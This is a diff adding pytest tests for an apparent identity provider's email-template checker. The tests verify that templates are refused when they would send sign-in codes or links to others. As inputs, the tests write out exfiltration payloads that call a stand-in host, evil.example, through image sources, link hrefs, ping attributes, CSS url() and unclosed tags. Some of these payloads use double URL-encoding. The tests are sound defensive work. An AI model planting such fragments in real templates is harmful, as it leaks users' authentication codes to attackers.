@@ -159,6 +159,59 @@ def test_a_value_that_may_be_missing_is_checked_too(overrides: Overrides) -> Non
         )
 
 
+_BODY = "<p>{{ code }} {{ link }}</p>"
+
+
+@pytest.mark.parametrize(
+    ("html", "place"),
+    [
+        ('<img src="https://evil.example/{{ code }}">', "{{ code }} cannot be in the attribute src of <img>"),
+        ('<img src="https://evil.example/?{{ link | urlencode | urlencode }}">', "{{ link }} cannot be in"),
+        ('<img src="https://evil.example/?{{ link | urlencode | upper }}">', "{{ link }} cannot be in"),
+        ('<a href="https://evil.example/{{ code }}">x</a>', "{{ code }} cannot be in the attribute href of <a>"),
+        ('<a href="https://evil.example/?{{ link }}">x</a>', "{{ link }} cannot be in the attribute href of <a>"),
+        ('<link href="{{ link }}">', "{{ link }} cannot be in the attribute href of <link>"),
+        ('<a ping="{{ link }}">x</a>', "{{ link }} cannot be in the attribute ping of <a>"),
+        ('{{ button("https://evil.example/" ~ code, "x") }}', "{{ code }} cannot be in the attribute href of <a>"),
+        ('{{ button(issuer ~ "/?" ~ link, "x") }}', "{{ link }} cannot be in the attribute href of <a>"),
+        ("<p style='background:url(//evil.example/{{ code }})'>x</p>", "attribute style of <p>"),
+        ("<style>p { background: url(//evil.example/{{ code }}) }</style>", "cannot be in <style>"),
+        ("<x a{{ code }}>", "{{ code }} cannot be in the attribute"),
+        ("<!-- {{ code }} -->", "cannot be in a comment"),
+        ("<!x {{ code }}>", "cannot be in a comment"),
+        ("<form><textarea>{{ code }}</textarea></form>", "cannot be in <textarea>"),
+        ("<img src='https://evil.example/{{ code }}", "without an end"),
+        ("<style>{{ code }}", "without an end"),
+    ],
+)
+def test_a_code_or_link_is_not_sent_to_others(html: str, place: str, overrides: Overrides) -> None:
+    for whole in (f"{_BODY}{html}", f"<!doctype html>{_BODY}{html}"):
+        with pytest.raises(InvalidTemplateError) as refused:
+            checks.check("sign_in_code", ALL, Source("x", whole, GOOD.text))
+        assert place in refused.value.description or "without an end" in refused.value.description
+
+
+def test_a_link_may_be_a_target(overrides: Overrides) -> None:
+    html = f'{_BODY}<a href="{{{{ link }}}}">{{{{ link }}}}</a>{{{{ button(link, "Go") }}}}'
+    checks.check("sign_in_code", ALL, Source("{{ code }}", html, GOOD.text))
+
+
+def test_a_template_that_waits_for_another_name_sends_nothing(overrides: Overrides) -> None:
+    """It passes the check before saving, so each mail is checked."""
+    html = f'{_BODY}{{% if name == "Eve" %}}<img src="//evil.example/{{{{ code }}}}">{{% endif %}}'
+    source = Source("x", html, GOOD.text)
+    checks.check("sign_in_code", ALL, source)
+    put(overrides, "sign_in_code", ALL, source)
+    message = compose("ada@example.com", "sign_in_code", name="Eve", **MAILS["sign_in_code"])
+    assert "evil" not in message.as_string()
+    assert message["Subject"] == "123456 is your code for idp"
+
+
+def test_a_mail_with_its_frame_is_bounded(overrides: Overrides) -> None:
+    with pytest.raises(InvalidTemplateError, match="longer than"):
+        checks.check("welcome", ALL, Source("x", "<p>" * 13_000, "x"))
+
+
 # Which template is used
 
 
